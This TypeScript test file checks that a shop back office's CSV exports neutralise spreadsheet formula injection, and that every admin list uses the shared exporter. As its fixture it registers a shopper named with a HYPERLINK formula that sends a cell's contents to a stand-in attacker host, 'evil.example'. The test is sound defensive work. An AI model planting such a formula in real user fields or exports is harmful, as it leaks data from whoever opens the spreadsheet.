// The back office's CSV exports against the real API: a shopper who names themself with a formula is exported as
// text a spreadsheet will not run, and every list exports through that one rule.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { User } from "@shop/domain/schemas/public";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { backOffice, DEMO } from "../test/api.ts";

const downloads: { csv: string; name: string }[] = [];
vi.mock("react-admin", async (importOriginal) => ({
  ...(await importOriginal<object>()),
  downloadCSV: (csv: string, name: string) => downloads.push({ csv, name }),
}));
const { csvExporter } = await import("./csv-exporter.ts");

const bo = backOffice();
const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")';

beforeAll(async () => {
  const email = `formula-${Date.now()}@example.com`;
  const res = await fetch(`${bo.apiUrl}/users/register`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ firstName: formula, lastName: "+SUM(1,2)", email, password: "Hoja-de-calculo-7" }),
  });
  expect(res.status).toBe(201);
  await bo.authProvider.login(DEMO.admin);
});

describe("exporting users to CSV", () => {
  it("writes a shopper's formula as text, quoted and led by an apostrophe", async () => {
    const { data } = await bo.dataProvider.getList<User>("users", {
      pagination: { page: 1, perPage: 25 },
      sort: { field: "createdAt", order: "DESC" },
      filter: { q: "formula-" },
    });
    expect(data.length).toBeGreaterThan(0);
    await csvExporter(data, async () => ({}), bo.dataProvider, "users");
    const { csv, name } = downloads.at(-1)!;
    expect(name).toBe("users");
    const [header, ...rows] = csv.trim().split("\r\n");
    expect(header).toContain("firstName");
    expect(rows.some((row) => row.includes(`"'${formula.replaceAll('"', '""')}"`))).toBe(true);
    expect(rows.some((row) => row.includes(",'+SUM(1,2)") || row.includes(`"'+SUM(1,2)"`))).toBe(true);
    // No cell of any row starts as a formula.
    for (const row of rows) {
      for (const cell of row.match(/("([^"]|"")*"|[^,]*)/g) ?? []) {
        expect(cell.replace(/^"/, ""), row).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

describe("every list of the back office", () => {
  it("exports through the shop's CSV rule, or not at all", () => {
    const resources = join(import.meta.dirname, "../resources");
    const lists = readdirSync(resources).flatMap((name) => {
      try {
        return [{ name, source: readFileSync(join(resources, name, "list.tsx"), "utf8") }];
      } catch {
        return [];
      }
    });
    expect(lists.length).toBeGreaterThan(10);
    for (const { name, source } of lists) {
      const tags = source.match(/<List\b[^>]*>/gs) ?? [];
      expect(tags.length, name).toBe(1);
      expect(tags[0], name).toMatch(/exporter=\{(csvExporter|false)\}/);
    }
  });
});
